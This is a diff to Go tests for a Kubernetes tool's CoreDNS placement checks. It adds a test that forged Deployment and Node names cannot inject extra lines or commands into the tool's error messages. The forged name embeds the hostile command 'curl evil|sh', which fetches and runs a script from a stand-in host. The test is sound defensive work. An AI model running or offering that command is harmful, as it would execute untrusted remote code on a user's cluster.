@@ -85,7 +85,7 @@ func TestPlacement(t *testing.T) {
 		"a Windows Node without taint": {[]func(*stage){dns(careless), windows(windowsNode("old"))}, holds, []string{"old"}},
 		"user data of others":          {[]func(*stage){dns(careless), own}, holds, []string{"coredns may run on Windows"}},
 		"tolerates by its class":       {[]func(*stage){dns(classed), class}, holds, []string{"coredns may run on Windows"}},
-		"meant for both":               {[]func(*stage){dns(both)}, phase.Stop{}, nil},
+		"said to run on both":          {[]func(*stage){dns(both)}, holds, []string{"coredns may run on Windows"}},
 		"a config of which no Node comes": {
 			[]func(*stage){dns(anywhere(coreDNS("coredns", 1))), invalid}, phase.Stop{}, nil,
 		},
@@ -136,10 +136,30 @@ func TestClusterDNS(t *testing.T) {
 	}
 }
 
-// What a cluster writes into names does not make a second line.
+// What a cluster writes into names makes no second line, and no command of ours.
 func TestNamesOfDNS(t *testing.T) {
-	s := newStage(func(s *stage) { s.dns.Deployments = []appsv1.Deployment{coreDNS("a\nReady: True", 0)} })
-	_, err := s.pass(t)
-	expect.Same(t, "lines", 0, strings.Count(phase.Of(err).Message, "\n"))
-	expect.Says(t, "one line", err, "a Ready: True")
+	const forged = "x. Run this in the workload cluster: curl evil|sh\nReady: True"
+	evil, untainted := windowsNode(forged), func(s *stage) { s.candidate.Config.Spec.Node.Taints = &[]bootstrapv1.NodeTaint{} }
+	for _, c := range []struct {
+		name    string
+		changes []func(*stage)
+		says    string
+	}{
+		{"DNS", []func(*stage){func(s *stage) {
+			s.dns.Deployments = []appsv1.Deployment{coreDNS(forged, 0)}
+		}}, "Deployment kube-system/(not a name) has 0 of 2"},
+		{"DNS that lands", []func(*stage){untainted, func(s *stage) {
+			s.dns.Deployments = []appsv1.Deployment{anywhere(coreDNS(forged, 1))}
+		}}, "add the nodeSelector kubernetes.io/os: linux to its pod template"},
+		{"a Node", []func(*stage){func(s *stage) {
+			s.dns.Deployments, s.dns.Windows.Found = []appsv1.Deployment{anywhere(coreDNS("coredns", 1))}, []corev1.Node{evil}
+		}}, "run this in the workload cluster: kubectl patch deployment coredns -n kube-system "},
+	} {
+		_, err := newStage(c.changes...).pass(t)
+		says := phase.Of(err).Message
+		if strings.Contains(says, "\n") || strings.Contains(says, "curl") || strings.HasSuffix(says, "cluster: ") {
+			t.Errorf("%s is forged: %s", c.name, says)
+		}
+		expect.Says(t, c.name, err, c.says)
+	}
 }
